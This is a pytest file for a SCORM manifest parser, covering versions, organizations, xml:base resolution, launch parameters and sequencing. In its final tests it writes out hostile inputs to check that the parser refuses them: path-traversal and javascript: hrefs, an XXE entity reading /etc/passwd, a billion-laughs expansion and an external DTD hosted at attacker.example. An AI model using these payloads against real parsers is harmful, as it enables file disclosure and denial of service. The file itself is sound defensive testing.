"""Manifest parsing: versions, organizations, items, xml:base, parameters, ADL extensions, sequencing."""

from __future__ import annotations

import pytest
from scorm_builders import MANIFEST_12

from scorm.errors import ManifestError
from scorm.launch_urls import add_parameters, resolve_href
from scorm.manifest import parse_manifest

NS_2004 = """xmlns="http://www.imsglobal.org/xsd/imscp_v1p1"
  xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3" xmlns:adlseq="http://www.adlnet.org/xsd/adlseq_v1p3"
  xmlns:adlnav="http://www.adlnet.org/xsd/adlnav_v1p3" xmlns:imsss="http://www.imsglobal.org/xsd/imsss"
  xmlns:lom="http://ltsc.ieee.org/xsd/LOM" xml:base="course/" """

MANIFEST_2004_4TH = f"""<?xml version="1.0"?>
<manifest identifier="m4" version="1" {NS_2004}>
  <metadata><schema>ADL SCORM</schema><schemaversion>2004 4th Edition</schemaversion>
    <lom:lom><lom:general>
      <lom:title><lom:string language="en">Metadata title</lom:string></lom:title>
      <lom:language>en</lom:language>
      <lom:description><lom:string language="en">About golf</lom:string></lom:description>
      <lom:keyword><lom:string language="en">golf</lom:string></lom:keyword>
      <lom:keyword><lom:string language="en">sport</lom:string></lom:keyword>
    </lom:general></lom:lom>
  </metadata>
  <organizations default="missing">
    <organization identifier="first"><title>First org</title>
      <item identifier="module" identifierref="intro_res"><title>Module</title>
        <item identifier="sco_a" identifierref="a" parameters="?page=2"><title>A</title>
          <adlcp:completionThreshold completedByMeasure="true" minProgressMeasure="0.75"/>
          <imsss:sequencing>
            <imsss:controlMode choice="false" flow="true" forwardOnly="true" choiceExit="false"/>
            <imsss:sequencingRules>
              <imsss:preConditionRule>
                <imsss:ruleConditions><imsss:ruleCondition condition="always"/></imsss:ruleConditions>
                <imsss:ruleAction action="hiddenFromChoice"/>
              </imsss:preConditionRule>
              <imsss:exitConditionRule>
                <imsss:ruleConditions conditionCombination="any">
                  <imsss:ruleCondition condition="satisfied" operator="not" referencedObjective="obj_a"/>
                </imsss:ruleConditions>
                <imsss:ruleAction action="exit"/>
              </imsss:exitConditionRule>
            </imsss:sequencingRules>
            <imsss:objectives>
              <imsss:primaryObjective objectiveID="obj_a" satisfiedByMeasure="true">
                <imsss:minNormalizedMeasure>0.8</imsss:minNormalizedMeasure>
              </imsss:primaryObjective>
              <imsss:objective objectiveID="obj_b"/>
            </imsss:objectives>
          </imsss:sequencing>
          <adlnav:presentation><adlnav:navigationInterface>
            <adlnav:hideLMSUI>continue</adlnav:hideLMSUI><adlnav:hideLMSUI>previous</adlnav:hideLMSUI>
          </adlnav:navigationInterface></adlnav:presentation>
        </item>
        <item identifier="sco_b" identifierref="b" isvisible="false" parameters="#frag"><title>B</title>
          <adlcp:dataFromLMS>launch-data</adlcp:dataFromLMS>
          <adlcp:timeLimitAction>exit,message</adlcp:timeLimitAction>
          <imsss:sequencing IDRef="shared"/>
        </item>
        <item identifier="asset_item" identifierref="asset"><title>Glossary</title></item>
      </item>
    </organization>
    <organization identifier="second"><title>Second org</title></organization>
  </organizations>
  <resources xml:base="content/">
    <resource identifier="intro_res" type="webcontent" adlcp:scormType="sco" href="intro.html?x=1"/>
    <resource identifier="a" type="webcontent" adlcp:scormType="sco" xml:base="a/" href="index.html?lang=en">
      <file href="index.html"/><dependency identifierref="common"/></resource>
    <resource identifier="b" type="webcontent" adlcp:scormType="sco" href="../b/start.html"/>
    <resource identifier="asset" type="webcontent" adlcp:scormType="asset" href="glossary.html"/>
    <resource identifier="common" type="webcontent" adlcp:scormType="asset"><file href="lib.js"/></resource>
  </resources>
  <imsss:sequencingCollection>
    <imsss:sequencing ID="shared">
      <imsss:objectives><imsss:primaryObjective objectiveID="obj_shared" satisfiedByMeasure="true"/>
      </imsss:objectives>
    </imsss:sequencing>
  </imsss:sequencingCollection>
</manifest>"""


def _manifest_2004(body: str, schemaversion: str = "2004 3rd Edition") -> str:
    return f"""<manifest identifier="m" {NS_2004}><metadata><schemaversion>{schemaversion}</schemaversion>
      </metadata>{body}</manifest>"""


def test_scorm_12_manifest() -> None:
    manifest = parse_manifest(MANIFEST_12.encode())
    assert manifest.version == "1.2"
    assert manifest.default_organization == "org"
    (sco,) = manifest.scos
    assert (sco.identifier, sco.title, sco.launch_url) == ("i1", "Lesson", "index.html")
    assert sco.mastery_score == 80


def test_scorm_2004_4th_edition_full() -> None:
    manifest = parse_manifest(MANIFEST_2004_4TH.encode())
    assert manifest.version == "2004 4th"
    assert manifest.default_organization == "first"  # the default names nothing: fall back to the first
    assert manifest.metadata.title == "Metadata title"
    assert manifest.metadata.keywords == ("golf", "sport")
    assert (manifest.metadata.language, manifest.metadata.description) == ("en", "About golf")
    ids = [s.identifier for s in manifest.scos]
    assert ids == ["module", "sco_a", "sco_b"]  # an item with both identifierref and children counts
    module, sco_a, sco_b = manifest.scos
    assert module.launch_url == "course/content/intro.html?x=1"
    assert sco_a.launch_url == "course/content/a/index.html?lang=en&page=2"
    assert sco_a.completion_threshold == 0.75
    assert sco_a.scaled_passing_score == 0.8
    assert sco_a.objective_ids == ("obj_a", "obj_b")
    assert sco_b.launch_url == "course/b/start.html#frag"
    assert sco_b.hidden is True and sco_b.data_from_lms == "launch-data"
    assert sco_b.time_limit_action == "exit,message"
    assert sco_b.objective_ids == ("obj_shared",) and sco_b.scaled_passing_score == 1.0


def test_sequencing_is_kept_as_data() -> None:
    manifest = parse_manifest(MANIFEST_2004_4TH.encode())
    org = manifest.organization
    assert org is not None
    item = next(i for i in org.all_items() if i.identifier == "sco_a")
    seq = item.sequencing
    assert seq is not None
    mode = seq.control_mode
    assert (mode.choice, mode.flow, mode.forward_only) == (False, True, True)
    assert seq.control_mode.choice_exit is False
    pre, exit_rule = seq.rules
    assert (pre.kind, pre.action) == ("pre", "hiddenFromChoice")
    assert (exit_rule.kind, exit_rule.condition_combination) == ("exit", "any")
    assert exit_rule.conditions[0].operator == "not"
    assert exit_rule.conditions[0].referenced_objective == "obj_a"
    assert item.hidden_from_choice is True
    assert item.hide_lms_ui == ("continue", "previous")
    resource = manifest.resource("a")
    assert resource is not None and resource.dependencies == ("common",)
    assert resource.files == ("course/content/a/index.html",)


@pytest.mark.parametrize(
    ("schemaversion", "version"),
    [("CAM 1.3", "2004 2nd"), ("2004 3rd Edition", "2004 3rd"), ("2004 4th Edition", "2004 4th"),
     ("", "2004 3rd")],
)
def test_version_detection(schemaversion: str, version: str) -> None:
    assert parse_manifest(_manifest_2004("", schemaversion).encode()).version == version


def test_version_from_namespace_alone() -> None:
    body = MANIFEST_12.replace("<schemaversion>1.2</schemaversion>", "")
    assert parse_manifest(body.encode()).version == "1.2"
    fourth = _manifest_2004('<organizations><organization identifier="o"><item identifier="i">'
                            '<adlcp:completionThreshold minProgressMeasure="0.5"/></item></organization>'
                            "</organizations>", "")
    assert parse_manifest(fourth.encode()).version == "2004 4th"


def test_unknown_version_is_an_error() -> None:
    with pytest.raises(ManifestError, match="SCORM version"):
        parse_manifest(b"<manifest identifier='x'><metadata/></manifest>")


def test_third_edition_completion_threshold_is_element_text() -> None:
    body = """<organizations><organization identifier="o"><item identifier="i" identifierref="r">
      <title>T</title><adlcp:completionThreshold>0.6</adlcp:completionThreshold></item></organization>
      </organizations><resources><resource identifier="r" adlcp:scormType="sco" href="x.html"/></resources>"""
    manifest = parse_manifest(_manifest_2004(body).encode())
    assert manifest.scos[0].completion_threshold == 0.6
    assert manifest.scos[0].launch_url == "course/x.html"


def test_package_without_organizations_launches_sco_resources() -> None:
    body = ('<organizations/><resources><resource identifier="r" adlcp:scormType="sco" href="x.html"/>'
            "</resources>")
    manifest = parse_manifest(_manifest_2004(body).encode())
    assert manifest.default_organization is None
    assert [s.launch_url for s in manifest.scos] == ["course/x.html"]


@pytest.mark.parametrize("href", ["../../evil.html", "/etc/passwd", "a/../../../x", "%2e%2e/%2e%2e/x",
                                  "javascript:alert(1)", "file:///etc/passwd"])
def test_hrefs_escaping_the_package_are_refused(href: str) -> None:
    body = f'<resources><resource identifier="r" adlcp:scormType="sco" href="{href}"/></resources>'
    with pytest.raises(ManifestError):
        parse_manifest(_manifest_2004(body).encode())


def test_dangling_identifierref_is_an_error() -> None:
    body = '<organizations><organization identifier="o"><item identifier="i" identifierref="nope"/>' \
           "</organization></organizations><resources/>"
    with pytest.raises(ManifestError, match="nope"):
        parse_manifest(_manifest_2004(body).encode())


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE manifest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<manifest identifier="&xxe;"/>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<manifest identifier="&lol3;"/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE manifest SYSTEM "http://attacker.example/evil.dtd"><manifest identifier="x"/>"""


@pytest.mark.parametrize("data", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, XXE.decode().encode("utf-16")])
def test_hostile_xml_is_refused(data: bytes) -> None:
    with pytest.raises(ManifestError, match="DTD|DOCTYPE|entit"):
        parse_manifest(data)


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04binary", b"<manifest>", b"<notamanifest/>"])
def test_non_xml_or_wrong_root(data: bytes) -> None:
    with pytest.raises(ManifestError):
        parse_manifest(data)


def test_deep_nesting_is_refused() -> None:
    deep = "<item identifier='i'>" * 5000 + "</item>" * 5000
    orgs = f"<organizations><organization identifier='o'>{deep}</organization></organizations>"
    data = _manifest_2004(orgs)
    with pytest.raises(ManifestError):
        parse_manifest(data.encode())


@pytest.mark.parametrize(
    ("url", "params", "expected"),
    [
        ("a.html", "?x=1", "a.html?x=1"),
        ("a.html", "&x=1", "a.html?x=1"),
        ("a.html", "x=1", "a.html?x=1"),
        ("a.html?y=2", "?x=1", "a.html?y=2&x=1"),
        ("a.html", "#p3", "a.html#p3"),
        ("a.html#top", "#p3", "a.html#top"),
        ("a.html#top", "x=1", "a.html?x=1#top"),
        ("a.html", None, "a.html"),
    ],
)
def test_item_parameters(url: str, params: str | None, expected: str) -> None:
    assert add_parameters(url, params) == expected


def test_xml_base_chain() -> None:
    assert resolve_href(["root/", None, "sub/"], "../x/./y.html") == "root/x/y.html"
    assert resolve_href(["https://cdn.example/c/"], "a.html") == "https://cdn.example/c/a.html"
    with pytest.raises(ManifestError):
        resolve_href(["root/"], "../../x.html")
